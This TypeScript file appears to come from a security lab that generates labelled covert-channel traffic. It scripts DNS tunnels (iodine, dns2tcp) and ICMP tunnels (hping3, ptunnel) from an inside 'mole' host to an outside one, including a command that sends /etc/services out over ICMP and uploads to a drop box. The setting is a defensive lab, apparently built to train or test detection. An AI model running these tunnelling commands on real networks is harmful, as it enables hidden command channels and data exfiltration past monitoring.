import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DNS, PCS, TUNNEL_DOMAIN } from '../hosts.js';
import type { Lab } from '../lab.js';
import { at, OUTSIDE, own, shell, type SetAttack } from './set_attack.js';

const MOLE = PCS[1]!;
const INNER = '10.99.0';
const SECRET = 'lab';
const BYTES_PER_SECOND = 4000;
const DNS2TCP_FILE = 'dns2tcpd.conf';

const dns = {
  kind: 'dns_tunnel',
  stage: 'c2',
  technique: 'T1071.004',
  techniqueName: 'Application Layer Protocol: DNS',
  attackers: [at(MOLE)],
  victims: [DNS.address, OUTSIDE.address],
  host: MOLE.name,
  seconds: 40,
  filter: `port 53 and (host ${OUTSIDE.address} or (host ${MOLE.address} and host ${DNS.address}))`,
} as const;

const icmp = {
  kind: 'icmp_tunnel',
  stage: 'c2',
  technique: 'T1095',
  techniqueName: 'Non-Application Layer Protocol',
  attackers: [at(MOLE)],
  victims: [OUTSIDE.address],
  host: MOLE.name,
  seconds: 40,
  filter: `host ${MOLE.address} and host ${OUTSIDE.address} and icmp`,
} as const;

export const TUNNELS: readonly SetAttack[] = [
  {
    ...dns,
    name: 'dns_tunnel-iodine',
    tool: 'iodine',
    split: 'tune',
    prepare: (lab) => {
      const server = ['iodined', '-f', '-c', '-P', SECRET, `${INNER}.1/24`, TUNNEL_DOMAIN];
      lab.serve('iodined', 'outsider', server);
    },
    command: (lab) =>
      shell([
        `iodine -f -r -P ${SECRET} ${DNS.address} ${TUNNEL_DOMAIN} &`,
        `for i in 1 2 3 4 5 6 7 8; do sleep 1; ip addr show dns0 2>/dev/null && break; done`,
        `sleep 3`,
        `ping -q -i ${Math.max(0.02, 0.1 / lab.intensity)} -s 300 ${INNER}.1`,
      ]),
  },
  {
    ...dns,
    name: 'dns_tunnel-dns2tcp',
    tool: 'dns2tcp',
    split: 'test',
    prepare: (lab) => {
      startDns2tcp(lab);
    },
    command: ({ intensity }) =>
      shell([
        `dns2tcpc -z ${TUNNEL_DOMAIN} -k ${SECRET} -r box -l 9000 ${DNS.address} &`,
        'sleep 2',
        own('uploader', '127.0.0.1', 9000, BYTES_PER_SECOND * intensity).join(' '),
      ]),
  },
  {
    ...icmp,
    name: 'icmp_tunnel-hping3',
    tool: 'hping3',
    split: 'tune',
    command: ({ intensity }) => [
      ...['hping3', '-q', '-n', '--icmp', '-d', '900', '-E', '/etc/services'],
      ...['-i', `u${Math.round(1e6 / (20 * intensity))}`, OUTSIDE.address],
    ],
  },
  {
    ...icmp,
    name: 'icmp_tunnel-ptunnel',
    tool: 'ptunnel',
    split: 'test',
    prepare: (lab) => {
      lab.serve('drop box', 'outsider', own('drop_box', 9001));
      lab.serve('ptunnel', 'outsider', ['ptunnel']);
    },
    command: ({ intensity }) =>
      shell([
        `ptunnel -p ${OUTSIDE.address} -lp 9000 -da ${OUTSIDE.address} -dp 9001 &`,
        'sleep 2',
        own('uploader', '127.0.0.1', 9000, 4 * BYTES_PER_SECOND * intensity).join(' '),
      ]),
  },
];

function startDns2tcp(lab: Lab): void {
  lab.serve('drop box', 'outsider', own('drop_box', 9001));
  const file = join(lab.folder, DNS2TCP_FILE);
  const settings = [
    'listen = 0.0.0.0',
    'port = 53',
    'user = root',
    `chroot = ${lab.folder}`,
    `domain = ${TUNNEL_DOMAIN}`,
    `key = ${SECRET}`,
    'resources = box:127.0.0.1:9001',
  ];
  writeFileSync(file, `${settings.join('\n')}\n`);
  lab.serve('dns2tcpd', 'outsider', ['dns2tcpd', '-F', '-f', file]);
}
